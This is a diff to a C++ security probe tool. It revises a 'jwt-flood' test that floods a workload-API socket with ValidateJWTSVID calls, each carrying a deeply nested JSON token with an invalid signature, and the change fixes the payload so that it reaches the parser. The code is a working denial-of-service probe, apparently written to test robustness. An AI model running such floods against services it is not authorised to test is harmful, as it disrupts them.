@@ -224,9 +224,11 @@ int Conns(const std::string& socket, int n) {
 // --- jwt-flood: ValidateJWTSVID abuse (issue 8, item 5) -------------------
 //   probe jwt-flood SOCKET THREADS SECONDS BYTES
 // THREADS connections each send ValidateJWTSVID back to back for SECONDS,
-// with a token whose payload is BYTES of [[[...]]] (nested BYTES/2 deep)
-// under an ES256 header and a signature that does not verify. Prints the
-// tally of codes, then "slowest_ms=N": how long the slowest call took.
+// with a token whose payload is BYTES of {"x":[[[...]]]} (nested about
+// BYTES/2 deep; an object, as the claims must be, or a parser stops at the
+// first byte) under an ES256 header and a signature that does not verify.
+// Prints the tally of codes, then "slowest_ms=N": how long the slowest call
+// took.
 std::string FloodB64(const std::string& data) {
   static constexpr char kAlphabet[] =
       "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
@@ -244,11 +246,12 @@ std::string FloodB64(const std::string& data) {
 
 int JwtFlood(const std::string& socket, int threads, int seconds,
              size_t bytes) {
-  const size_t depth = bytes / 2;
+  const size_t depth = bytes > 8 ? (bytes - 6) / 2 : 1;
   const std::string token =
       FloodB64(R"({"alg":"ES256","kid":"flood","typ":"JWT"})") + "." +
-      FloodB64(std::string(depth, '[') + std::string(depth, ']')) + "." +
-      FloodB64(std::string(64, '\x01'));
+      FloodB64("{\"x\":" + std::string(depth, '[') + std::string(depth, ']') +
+               "}") +
+      "." + FloodB64(std::string(64, '\x01'));
   const auto end =
       std::chrono::steady_clock::now() + std::chrono::seconds(seconds);
   std::mutex mu;
